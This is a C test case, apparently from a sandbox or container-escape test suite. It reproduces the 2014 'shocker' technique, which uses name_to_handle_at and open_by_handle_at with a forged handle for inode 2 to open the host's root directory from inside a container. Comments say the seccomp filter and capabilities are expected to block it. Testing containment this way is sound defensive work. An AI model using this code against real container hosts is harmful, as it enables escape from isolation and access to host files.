// attempt: Opens a host file by its file handle, which needs no path, through any directory of the same file system.
// known-from: shocker.c (2014), out of Docker by open_by_handle_at
// held-by: filter, capabilities
// must: held
// needs: secret
// control: bare root
#include "escape.h"

int main(void) {
    union {
        struct file_handle handle;
        char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    } place = {.handle.handle_bytes = MAX_HANDLE_SZ};
    char text[100] = "";
    int mount;
    // Where the path is not there, inode 2 serves: the root directory of the file system that /usr lies in.
    if (name_to_handle_at(AT_FDCWD, getenv("ESCAPE_SECRET"), &place.handle, &mount, 0)) {
        place.handle.handle_bytes = 8;
        place.handle.handle_type = 1;
        memcpy(place.handle.f_handle, (unsigned[]){2, 0}, 8);
    }
    int fd, usr = open("/usr", O_RDONLY | O_DIRECTORY);
    need(fd = open_by_handle_at(usr, &place.handle, O_RDONLY));
    if (read(fd, text, sizeof text - 1) < 0) escaped("the root directory of the host is open");
    escaped("%s", text);
}
